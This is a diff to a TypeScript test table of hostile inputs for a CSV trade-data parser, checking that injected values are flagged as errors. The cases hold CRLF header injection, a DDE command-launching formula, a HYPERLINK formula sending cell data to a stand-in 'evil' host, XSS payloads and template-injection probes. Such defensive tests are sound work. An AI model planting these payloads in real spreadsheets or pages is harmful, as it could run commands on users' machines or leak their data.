@@ -120,6 +120,31 @@ const CASES: Readonly<Record<string, HostileCase>> = {
     read: ['X', 'X'],
     show: ({ flow }) => flow,
   },
+  'line ends and headers of other protocols in a cell stay in it': {
+    file:
+      H +
+      row({ partner: 'a%0d%0aSet-Cookie:x=1' }) +
+      'DEU,"a\r\nFAKE LOG LINE",export,8703,2024-03,1,EUR,A\n' +
+      row({ period: '2024-04' }),
+    problems: ['E_UNKNOWN_COUNTRY@2:partner', 'E_UNKNOWN_COUNTRY@3:partner'],
+    read: ['1234567.89 A'],
+  },
+  'formulas and markup are names that nobody knows': {
+    file:
+      H +
+      row({ partner: "=cmd|' /C calc'!A0" }) +
+      row({ partner: '=HYPERLINK(""http://evil/?""&A1)' }) +
+      row({ partner: '<script>alert(1)</script>', status: '<img src=x onerror=alert(1)>' }),
+    problems: [
+      ...['E_UNKNOWN_COUNTRY@2:partner', 'E_STRAY_QUOTE@3:partner', 'E_UNKNOWN_COUNTRY@4:partner', 'E_STATUS@4:status'],
+    ],
+    read: [],
+  },
+  'one date above 12 settles day and month, and then a day is no month': {
+    file: H + row({ period: '03/04/2024' }) + row({ period: '13/02/2024' }),
+    problems: ['E_PERIOD@2:period', 'E_PERIOD@3:period'],
+    read: [],
+  },
   'templates of other programs are text': {
     file: H + row({ partner: '{{7*7}}${7*7}<%=7*7%>#{7*7}' }),
     problems: ['E_UNKNOWN_COUNTRY@2:partner'],
